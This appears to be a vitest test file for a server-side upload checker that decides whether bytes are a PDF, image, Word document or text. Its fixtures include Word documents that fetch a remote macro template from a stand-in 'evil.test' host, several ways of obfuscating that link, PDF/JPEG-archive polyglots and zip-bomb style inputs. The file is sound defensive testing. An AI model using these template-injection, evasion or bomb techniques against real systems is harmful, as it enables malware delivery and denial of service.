import { deflateRawSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { kindOfContent } from '../../src/http/kinds-of-files.ts';
import { MOST_OF_A_TURN, timeOf } from '../support/processor-time.ts';
import {
  jpeg,
  pdf,
  png,
  program,
  text,
  wordOf,
  zipOf,
  type InZip,
} from '../domain/forms/a-file.ts';

const bytesOf = (...parts: (string | Uint8Array)[]): Uint8Array =>
  Uint8Array.from(Buffer.concat(parts.map((part) => Buffer.from(part))));
const wide = (text: string): Uint8Array => Uint8Array.from(Buffer.from(text, 'utf16le'));
const ftyp = (brand: string): Uint8Array =>
  bytesOf(Uint8Array.of(0, 0, 0, 24), 'ftyp', brand, Uint8Array.of(0, 0, 0, 0), 'mif1', brand);
const types = 'application/vnd.ms-office.vbaProject';

describe('a file is what its content is', () => {
  test.each([
    ['a PDF', pdf, 'pdf'],
    ['a PDF after a byte order mark', bytesOf('\uFEFF', pdf), 'pdf'],
    ['a PDF after an empty line', bytesOf('\r\n', pdf), 'pdf'],
    ['a PDF after a byte order mark and empty lines', bytesOf('\uFEFF\n\n ', pdf), 'pdf'],
    ['a JPEG', jpeg, 'jpeg'],
    ['a PNG', png, 'png'],
    ['a picture from a telephone', ftyp('heic'), 'heic'],
    ['a picture from another', ftyp('mif1'), 'heic'],
    ['a Word document', wordOf(), 'docx'],
    ['a Word document from the web', wordOf({ main: 'word/document2.xml' }), 'docx'],
    ['a Word document with a comment at its end', wordOf({ comment: 'by Ann' }), 'docx'],
    ['plain text', text, 'text'],
    ['plain text that begins as a picture does', bytesOf('BM are my letters.'), 'text'],
    ['text of an older Windows', Uint8Array.of(0xa3, 0x35), 'text'],
    ['one letter', bytesOf('a'), 'text'],
    ['text in UTF-16', wide('\uFEFFżółć\r\n'), 'text'],
    ['text in UTF-16 with a face', wide('\uFEFFżółć \u{1F600}\r\n'), 'text'],
    ['text in UTF-16 the other way round', wide('\n\r łóż\uFEFF').toReversed(), 'text'],
  ])('%s', async (_name, bytes, kind) => {
    expect(await kindOfContent(bytes)).toBe(kind);
  });

  test.each([
    ['a program', program],
    ['a program after an empty line', bytesOf('\n', program)],
    ['a program with a PDF in it', bytesOf(program, pdf)],
    ['a zip archive', zipOf(['a.txt'])],
    ['a zip archive with a folder called word', zipOf(['word/document.xml'])],
    ['a spreadsheet', zipOf(['[Content_Types].xml', 'xl/workbook.xml'])],
    ['an older Word document', Uint8Array.of(0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0)],
    ['rich text', bytesOf('{\\rtf1\\ansi Dear council}')],
    ['a Word document with macros', wordOf({ more: ['word/vbaProject.bin'] })],
    [
      'a Word document of the kind with macros',
      wordOf({ type: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    ],
    [
      'a Word document with macros under another name',
      wordOf({
        more: ['word/pictures.bin'],
        types: `<Override PartName="/word/pictures.bin" ContentType="${types}"/>`,
      }),
    ],
    ['a Word document with controls', wordOf({ more: ['word/activeX/activeX1.xml'] })],
    [
      'a Word document that fetches its template',
      wordOf({ more: [['word/_rels/settings.xml.rels', template('https://evil.test/a.dotm')]] }),
    ],
    ['a Word document cut short', wordOf().slice(0, -30)],
    ['a zip archive that is only its first bytes', Uint8Array.of(0x50, 0x4b, 3, 4)],
    ['text with a control character', Uint8Array.of(65, 0, 66)],
    ['text in UTF-16 with a control character', wide('\uFEFFa\u0007b')],
    ['text in UTF-16 the other way round with one', wide('b\u0007a\uFEFF').toReversed()],
    ['the first half of a pair in UTF-16', wide('\uFEFFa\ud83db')],
    ['the second half of a pair in UTF-16', wide('\uFEFFa\ude00b')],
    ['the first half of a pair at the end', wide('\uFEFFa\ud83d')],
    ['half of a UTF-16 letter', Uint8Array.of(0xff, 0xfe, 0x41)],
  ])('%s is none that a form takes', async (_name, bytes) => {
    expect(await kindOfContent(bytes)).toBeUndefined();
  });

  test('a table of contents that lies about its place is not followed', async () => {
    const lying = wordOf();
    new DataView(lying.buffer).setUint32(lying.length - 6, 0xffffffff, true);
    expect(await kindOfContent(lying)).toBeUndefined();
  });

  test.each([
    ['a PDF', pdf],
    ['a JPEG', jpeg],
  ])('%s that is an archive besides is neither', async (_, start) => {
    const archive = zipOf(['run.js']);
    const both = bytesOf(start, archive);
    const view = new DataView(both.buffer);
    const table = view.getUint32(both.length - 6, true);
    view.setUint32(both.length - 6, table + start.length, true);
    expect(await kindOfContent(both)).toBeUndefined();
  });
});

const evil = template('https://evil.test/a.dotm');
test.each([
  ['in letters that are written as numbers', evil.replace('https', '&#104;tt&#x70;s')],
  ['in numbers with noughts before them', evil.replace('https', '&#00000000104;ttps')],
  ['whose kind is written as numbers', evil.replace('attachedT', '&#97;ttached&#x54;')],
  ['by names with a prefix', evil.replaceAll('Relationship', 'r:Relationship')],
  ['by a name of its own', `<!DOCTYPE a [<!ENTITY h "https:">]>${evil.replace('https:', '&h;')}`],
])('a Word document that fetches its template %s is none', async (_, links) => {
  const own = wordOf({ more: [['word/_rels/settings.xml.rels', links]] });
  expect(await kindOfContent(own)).toBeUndefined();
});

test('nor is one with more letters written as numbers than are worth their time', async () => {
  const some = (count: number): string =>
    `${'&#97;'.repeat(count)}${template('file:///C:/a.dotm')}`;
  const of = (count: number): Uint8Array =>
    wordOf({ more: [['word/_rels/settings.xml.rels', some(count)]] });
  expect(await kindOfContent(of(20_000))).toBe('docx');
  expect(await kindOfContent(of(20_001))).toBeUndefined();
});

test('nor is one whose links are in UTF-16', async () => {
  const links = new TextDecoder('latin1').decode(wide(`\uFEFF${evil}`));
  const own = wordOf({ more: [['word/_rels/settings.xml.rels', links]] });
  expect(await kindOfContent(own)).toBeUndefined();
});

test.each([
  ['with a sign in its name that ends a tag', '>', ''],
  ['after a megabyte of links that fetch nothing', '', '<a/>'.repeat(300_000)],
])('a Word document that fetches its template %s is none', async (_, id, before) => {
  const fetching = template('https://evil.test/a.dotm').replace('rId1', `rId1${id}`);
  const own = wordOf({ more: [['word/_rels/settings.xml.rels', before + fetching]] });
  expect(await kindOfContent(own)).toBeUndefined();
});

test('a Word document may name the template of its writer’s own computer, and link to pages', async () => {
  const link =
    '<Relationships><Relationship Type="x/hyperlink" Target="https://c.test/" TargetMode="External"/></Relationships>';
  const own = wordOf({
    more: [
      ['word/_rels/settings.xml.rels', template('file:///C:/Users/Ann/Normal.dotm')],
      ['word/_rels/document.xml.rels', link],
    ],
  });
  expect(await kindOfContent(own)).toBe('docx');
});

function template(target: string): string {
  return `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${target}" TargetMode="External"/></Relationships>`;
}

describe('a file that is made to cost time costs little', () => {
  test.each([
    ['a list of parts that swells to a gigabyte', swelling()],
    ['five thousand entries', zipOf(Array.from({ length: 5_001 }, (_, index) => `w/${index}`))],
    ['four megabytes of nothing', new Uint8Array(4 * 1024 * 1024)],
    ['four megabytes of brackets', new Uint8Array(4 * 1024 * 1024).fill(0x3c)],
    ['four megabytes of archive beginnings', bytesOf('PK\x03\x04'.repeat(1024 * 1024))],
    [
      'four megabytes of the mark of UTF-16',
      new Uint8Array(4_000_000).map((_, at) => 255 - (at % 2)),
    ],
    ['four megabytes of letters in UTF-16', wide(`\uFEFF${'ż'.repeat(2_000_000)}`)],
    ['four megabytes of text', bytesOf('word '.repeat(800_000))],
    ['four megabytes of picture boxes', bytesOf('\xff\xd8\xff\xe0\x00\x02'.repeat(600_000))],
    ['a list of links whose every tag begins and none ends', listsOf('', '<Relationship ', '')],
    ['a list of links with a tag full of spaces', listsOf('<Relationship Target', ' ', '>')],
    ['two hundred lists of links, a megabyte each', listsOf('', '<a ', '', 200)],
    ['five thousand lists of links', wordOf({ more: manyLists() })],
    ['four megabytes of a picture’s empty texts', bytesOf(png.slice(0, 33), emptyTexts())],
    ['four megabytes of sound', bytesOf('ID3\x04\x00\x00\x00\x00\x00\x00'.repeat(400_000))],
  ])('%s', async (_, bytes) => {
    expect(await timeOf(() => kindOfContent(bytes))).toBeLessThan(MOST_OF_A_TURN);
  });
});

/** A Word document with so many lists of links, each of a megabyte before it was deflated. */
function listsOf(first: string, again: string, last: string, times = 1): Uint8Array {
  const links = deflateRawSync(first + again.repeat(1_000_000 / again.length) + last);
  return wordOf({
    more: Array.from({ length: times }, (_, index) => [`word/_rels/${String(index)}.rels`, links]),
  });
}

/** Chunks of PNG without anything in them, as many as four megabytes hold. */
function emptyTexts(): Uint8Array {
  return bytesOf('\0\0\0\0tEXt\0\0\0\0'.repeat(350_000));
}

/** Lists of links with nothing in them, as many as an archive may have entries. */
function manyLists(): InZip[] {
  const nothing = deflateRawSync('');
  return Array.from({ length: 4_900 }, (_, index) => [`word/_rels/${String(index)}.rels`, nothing]);
}

/** A Word document whose list of parts is a hundred megabytes of spaces, deflated. */
function swelling(): Uint8Array {
  const packed = deflateRawSync(Buffer.alloc(100 * 1024 * 1024, 32));
  return zipOf([['[Content_Types].xml', packed], 'word/document.xml']);
}
